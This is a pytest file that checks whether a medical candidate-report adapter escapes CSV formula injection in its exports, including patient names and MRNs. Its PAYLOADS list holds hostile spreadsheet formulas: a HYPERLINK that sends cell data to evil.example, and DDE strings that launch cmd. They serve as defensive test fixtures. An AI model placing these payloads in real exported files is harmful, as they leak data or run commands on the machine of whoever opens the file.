"""candidates.csv against formula injection (issue 11, item 7; OWASP "CSV Injection").

A unit text `=HYPERLINK(...)` reached candidates.csv as a live formula. Every cell that starts
with `=`, `+`, `-`, `@`, tab or carriage return now gets a leading `'`; the value columns keep a
plain number such as `-1.5` as it is. Since issue 12 the values are in candidates-detail.csv, and
both files are drawn from results.json, identity (name, MRN) included.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from adapter.criteria.results import CriterionResult, Evidence, PatientVerdict, Result, Status
from adapter.facts.identity import Identity
from adapter.report.csvs import DETAIL_COLUMNS, candidates_csv, candidates_detail_csv, csv_cell
from adapter.report.results import verdict_json

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def doc(verdict: PatientVerdict, identity: Identity | None = None) -> dict[str, Any]:
    """The part of results.json the CSVs read."""
    return {
        "automated_criteria": list(verdict.criteria),
        "patients": [verdict_json(verdict, identity or Identity())],
    }


def rows(verdict: PatientVerdict) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(candidates_detail_csv(doc(verdict)))))


def verdict(evidence: Evidence, reason: str = "ok") -> PatientVerdict:
    result = CriterionResult(Result.UNKNOWN, reason, (evidence,))
    return PatientVerdict("Patient/p1", Status.POTENTIAL_CANDIDATE, {"hemoglobin": result})


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("column", ["recorded_unit", "reason", "reference"])
def test_a_formula_in_a_text_cell_is_escaped_with_a_quote(column: str, payload: str) -> None:
    """Unit text, reason and reference come from the source: each is made inert."""
    evidence = Evidence(
        reference=payload if column == "reference" else "Observation/o1",
        recorded_value=1.0,
        recorded_unit=payload if column == "recorded_unit" else "g/dL",
    )
    [row] = rows(verdict(evidence, payload if column == "reason" else "ok"))
    assert row[column] == "'" + payload


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("field", ["name", "mrn"])
def test_a_formula_in_a_name_or_mrn_is_escaped_in_both_files(field: str, payload: str) -> None:
    """Patient.name and the MRN come from the source too."""
    evidence = Evidence(reference="Observation/o1", recorded_value=1.0)
    identity = Identity(**{field: payload})
    source = doc(verdict(evidence), identity)
    for write in (candidates_csv, candidates_detail_csv):
        [row] = csv.DictReader(io.StringIO(write(source)))
        assert row[field] == "'" + payload, write.__name__


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (-1.5, "-1.5"),
        (-0.00002, "-2e-05"),
        (-1e300, "-1e+300"),
        (3.0, "3"),
        (float("-inf"), "'-inf"),
    ],
)
def test_a_plain_negative_number_stays_a_number_in_the_value_columns(
    value: float, shown: str
) -> None:
    """`-1.5` is a number to a spreadsheet, never a formula; `-inf` is not plain: escaped."""
    [row] = rows(verdict(Evidence(reference="Observation/o1", recorded_value=value)))
    assert row["recorded_value"] == shown
    derived = Evidence(reference="Observation/o1", normalised_value=value, normalised_unit="s")
    [row] = rows(verdict(derived))
    assert row["value"] == shown


@pytest.mark.parametrize(
    ("text", "number", "expected"),
    [
        ("-1.5", False, "'-1.5"),
        ("-1.5", True, "-1.5"),
        ("-1.5+A1", True, "'-1.5+A1"),
        ("=1", True, "'=1"),
        ("g/dL", False, "g/dL"),
        ("", False, ""),
        (" =1", False, " =1"),
        ("a=b", False, "a=b"),
    ],
)
def test_csv_cell(text: str, number: bool, expected: str) -> None:
    """Only the first character counts; the plain-number exception is the value column's."""
    assert csv_cell(text, number=number) == expected


def test_no_cell_of_the_file_starts_a_formula() -> None:
    """Every column at once: no cell of any row starts with a formula character."""
    evidence = Evidence(
        reference=PAYLOADS[0],
        recorded_value=-2.0,
        recorded_unit=PAYLOADS[1],
        date=PAYLOADS[2],
        threshold=PAYLOADS[3],
    )
    identity = Identity(name=PAYLOADS[5], mrn=PAYLOADS[0], sex=PAYLOADS[1], birth_date=PAYLOADS[2])
    text = candidates_detail_csv(doc(verdict(evidence, PAYLOADS[4]), identity))
    for row in list(csv.reader(io.StringIO(text)))[1:]:
        assert len(row) == len(DETAIL_COLUMNS)
        for column, cell in zip(DETAIL_COLUMNS, row, strict=True):
            if column not in ("recorded_value", "value"):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), column
    text = candidates_csv(doc(verdict(evidence, PAYLOADS[4]), identity))
    for row in list(csv.reader(io.StringIO(text)))[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
